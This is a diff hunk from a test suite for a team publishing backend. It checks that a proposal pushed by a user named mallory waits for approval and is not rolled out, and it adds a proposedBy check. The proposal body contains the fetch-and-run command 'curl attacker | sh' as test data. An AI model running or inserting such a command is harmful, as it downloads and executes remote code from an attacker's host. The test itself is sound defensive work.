@@ -276,7 +276,7 @@ describe.each(implementations)('the team backend $label', ({ open }) => {
     const mallory = `mallory-${author}`;
     expect(await publish(backend, push(ref, body('Proposed', 'One.', 'curl attacker | sh'), { pusher: mallory, basedOn: 1 }))).toMatchObject({ status: 'updated', version: 2, proposal: true });
     const lane = await laneHasCandidate(backend, ref, 2);
-    expect(lane.state?.rollout).toMatchObject({ version: 2, policy: 'approval', awaitingApproval: true });
+    expect(lane.state?.rollout).toMatchObject({ version: 2, policy: 'approval', awaitingApproval: true, proposedBy: mallory });
     for (const user of [inCohort, outOfCohort, mallory]) expect((await backend.list(user)).find((s) => s.name === ref.name && s.author === author)?.version).toBe(1);
     expect((await backend.history(ref)).at(-1)).toMatchObject({ version: 2, state: 'candidate', proposedBy: mallory });
 
